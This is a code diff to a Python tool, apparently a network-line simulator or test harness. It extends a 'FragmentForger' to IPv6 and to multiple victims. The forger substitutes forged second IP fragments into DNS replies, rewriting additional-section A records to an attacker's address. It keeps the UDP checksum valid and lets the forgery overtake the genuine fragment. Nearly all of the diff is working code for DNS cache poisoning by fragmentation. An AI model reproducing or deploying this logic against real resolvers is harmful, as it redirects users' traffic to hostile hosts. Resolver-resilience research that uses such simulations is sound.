@@ -192,16 +192,50 @@ class Injected(Injector):
             yield self.seconds, self.frame(query, payload, source)
 
 
+class Fragment:
+    """One fragment of a UDP datagram over IPv4 or IPv6: where it belongs and what it holds."""
+
+    def __init__(self, frame):
+        self.frame = frame
+        packet = frame[14:]
+        kind = struct.unpack_from("!H", frame, 12)[0]
+        if kind == ETH_IPV4 and packet[9] == 17:
+            where = struct.unpack_from("!H", packet, 6)[0]
+            self.start, self.more = (where & 0x1FFF) * 8, bool(where & 0x2000)
+            self.head, self.target = 20, packet[16:20]
+            self.key = packet[4:6] + packet[12:20]
+            length = struct.unpack_from("!H", packet, 2)[0]
+        elif kind == ETH_IPV6 and packet[6] == 44 and packet[40] == 17:
+            where = struct.unpack_from("!H", packet, 42)[0]
+            self.start, self.more = where & 0xFFF8, bool(where & 1)
+            self.head, self.target = 48, packet[24:40]
+            self.key = packet[44:48] + packet[8:40]
+            length = 40 + struct.unpack_from("!H", packet, 4)[0]
+        else:
+            raise dns.FormatError("no fragment")
+        self.data = packet[self.head:length]
+
+    def copy(self, data, hops):
+        """The frame again with DATA in place of its own, as long, and HOPS as its IP TTL."""
+        head = bytearray(self.frame[:14 + self.head])
+        if self.head == 20:
+            head[22], head[24:26] = hops, b"\0\0"
+            struct.pack_into("!H", head, 24, checksum(bytes(head[14:])))
+        else:
+            head[21] = hops
+        return bytes(head) + data
+
+
 class FragmentForger:
-    """What a line does where second fragments of one server's replies to VICTIM are replaced.
+    """What a line does where second fragments of a server's replies to VICTIMS are replaced.
 
     The forged second fragment, addresses in it turned into FORGED and the sum of all words kept,
     overtakes the true first one. The true second one follows unless LOSE.
     """
 
-    def __init__(self, victim, forged, seconds, lose, hops=61):
-        self.victim = socket.inet_pton(socket.AF_INET, victim)
-        self.forged = socket.inet_pton(socket.AF_INET, forged)
+    def __init__(self, victims, forged, seconds, lose, hops=61):
+        self.victims = [pack_address(victim) for victim in victims]
+        self.forged = pack_address(forged)
         self.seconds = seconds
         self.lose = lose
         self.hops = hops
@@ -211,28 +245,28 @@ class FragmentForger:
 
     def __call__(self, frame, outward):
         true = ((self.seconds, frame),)
-        packet = frame[14:]
-        if not outward or not self.active or frame[12:14] != b"\x08\x00" or packet[9] != 17:
+        if not outward or not self.active:
             return true
-        if packet[16:20] != self.victim:
+        try:
+            fragment = Fragment(frame)
+        except dns.FormatError:
             return true
-        where = struct.unpack_from("!H", packet, 6)[0]
-        key = packet[4:6] + packet[12:20]
-        if where & 0x2000 and not where & 0x1FFF:
-            self.firsts[key] = packet[20:struct.unpack_from("!H", packet, 2)[0]]
-        elif where & 0x1FFF and not where & 0x2000 and key in self.firsts:
-            forged = self.forge(self.firsts.pop(key), packet)
+        if fragment.target not in self.victims:
+            return true
+        if fragment.more and not fragment.start:
+            self.firsts[fragment.key] = fragment.data
+        elif fragment.start and not fragment.more and fragment.key in self.firsts:
+            forged = self.forge(self.firsts.pop(fragment.key), fragment)
             if forged:
-                return ((0, frame[:14] + forged),) + (() if self.lose else true)
+                return ((0, forged),) + (() if self.lose else true)
         return true
 
-    def forge(self, first, packet):
-        """The false second fragment for PACKET, the true one; None if no address lies in it."""
-        whole = first + packet[20:struct.unpack_from("!H", packet, 2)[0]]
+    def forge(self, first, second):
+        """The false frame for the fragment SECOND; None if no address lies in it."""
+        whole = first + second.data
         changed = bytearray(whole)
-        message = dns.Message(whole[8:])
         spare = None
-        for owner, rtype, _, at, length in message.additional:
+        for owner, rtype, _, at, length in dns.Message(whole[8:]).additional:
             if rtype == 1 and at + 8 >= len(first):
                 changed[at + 8:at + 12] = self.forged
                 self.names.add(owner.lower())
@@ -242,10 +276,12 @@ class FragmentForger:
             return None
         word = struct.unpack_from("!H", changed, spare)[0]
         struct.pack_into("!H", changed, spare, (word + word_sum(whole) - word_sum(changed)) % 65535)
-        head = bytearray(packet[:20])
-        head[8], head[10:12] = self.hops, b"\0\0"
-        struct.pack_into("!H", head, 10, checksum(bytes(head)))
-        return bytes(head) + bytes(changed[len(first):])
+        return second.copy(bytes(changed[len(first):]), self.hops)
+
+
+def pack_address(address):
+    """An address as octets."""
+    return socket.inet_pton(socket.AF_INET6 if ":" in address else socket.AF_INET, address)
 
 
 def word_sum(octets):
